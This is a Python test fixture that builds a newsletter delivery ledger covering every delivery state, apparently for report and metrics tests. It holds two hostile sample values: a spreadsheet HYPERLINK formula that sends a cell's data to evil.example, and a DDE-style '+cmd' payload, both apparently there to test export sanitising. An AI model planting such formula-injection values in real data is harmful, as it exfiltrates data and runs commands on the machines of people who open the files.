"""A delivery ledger built directly with the ORM, one delivery in each state, with a hostile
address and error text (the report and metrics tests)."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import datetime, timedelta

from sqlalchemy import text

from distributor.core.config import Settings
from distributor.core.db import get_engine, is_sqlite, session_scope
from distributor.core.models import Delivery, Release, Subscriber, utcnow

HOSTILE_EMAIL = '=HYPERLINK("https://evil.example/?d="&A1,"x")@example.com'


HOSTILE_ERROR = "+cmd|' /C calc'!A0"


@dataclass(frozen=True)
class Ledger:
    """What ``build_ledger`` made: the release under test, an older one, and the times."""

    release_id: int
    old_release_id: int
    published_at: datetime


def _release(slug: str, published_at: datetime) -> Release:
    return Release(slug=slug, title=f"Release {slug}", language="en", body_html="<p>x</p>",
                   body_text="x", date=published_at, state="published",
                   published_at=published_at)  # fmt: skip


def build_ledger(settings: Settings) -> Ledger:
    """A release published an hour ago with one delivery in each state (codes, errors,
    bounces, a hostile address and error text), and a release published three days ago
    with one sent delivery. Subscribers: 5 confirmed en, 1 bounced fr, 1 unsubscribed fr,
    1 pending en."""
    now = utcnow().replace(microsecond=0)
    published = now - timedelta(hours=1)
    with session_scope(settings) as session:
        people = {
            email: Subscriber(email=email, name="", language=lang, status=status)
            for email, lang, status in [
                ("ann@example.com", "en", "confirmed"),
                ("bob@example.com", "fr", "bounced"),
                ("cat@example.com", "en", "confirmed"),
                ("dan@example.com", "en", "confirmed"),
                ("eve@example.com", "en", "confirmed"),
                (HOSTILE_EMAIL, "en", "confirmed"),
                ("uma@example.com", "fr", "unsubscribed"),
                ("zed@example.com", "en", "pending"),
            ]
        }
        release, old = _release("now", published), _release("old", now - timedelta(days=3))
        session.add_all([*people.values(), release, old])
        session.flush()

        def row(email: str, status: str, **kw: object) -> Delivery:
            return Delivery(release_id=release.id, subscriber_id=people[email].id,
                            status=status, created_at=published, **kw)  # fmt: skip

        session.add_all(
            [
                row(
                    "ann@example.com",
                    "sent",
                    attempts=1,
                    smtp_code=250,
                    sent_at=published + timedelta(seconds=4),
                ),
                row(
                    "eve@example.com",
                    "sent",
                    attempts=2,
                    smtp_code=250,
                    sent_at=published + timedelta(seconds=90),
                ),
                row(
                    "bob@example.com",
                    "failed",
                    attempts=1,
                    smtp_code=550,
                    last_error="550 5.1.1 <bob@example.com>:\r\n  user unknown",
                    bounce="hard",
                    bounced_at=published + timedelta(minutes=5),
                ),
                row(
                    "cat@example.com",
                    "deferred",
                    attempts=2,
                    smtp_code=451,
                    last_error="-ERR greylisted, try later",
                    bounce="soft",
                    bounced_at=published + timedelta(minutes=6),
                ),
                row(HOSTILE_EMAIL, "cancelled", last_error=HOSTILE_ERROR),
                row("dan@example.com", "pending"),
                Delivery(
                    release_id=old.id,
                    subscriber_id=people["ann@example.com"].id,
                    status="sent",
                    attempts=1,
                    smtp_code=250,
                    created_at=old.published_at,
                    sent_at=now - timedelta(days=3) + timedelta(seconds=10),
                ),
            ]
        )
        session.flush()
        return Ledger(release.id, old.id, published)


def orphan(settings: Settings, email: str) -> None:
    """Delete a subscriber but keep their ledger rows, as if erasure kept them anonymised
    (it does not today; the report must still show such rows)."""
    engine = get_engine(settings)
    with engine.connect() as conn:
        raw = conn.connection.driver_connection
        assert raw is not None
        if is_sqlite(engine):
            conn.rollback()  # out of the transaction: SQLite ignores the pragma inside one
            raw.execute("PRAGMA foreign_keys=OFF")
            raw.execute("DELETE FROM subscribers WHERE email = ?", (email,))
            raw.execute("PRAGMA foreign_keys=ON")
        else:  # the FK triggers (the cascade) do not fire for a replica
            conn.execute(text("SET LOCAL session_replication_role = replica"))
            conn.execute(text("DELETE FROM subscribers WHERE email = :e"), {"e": email})
            conn.commit()
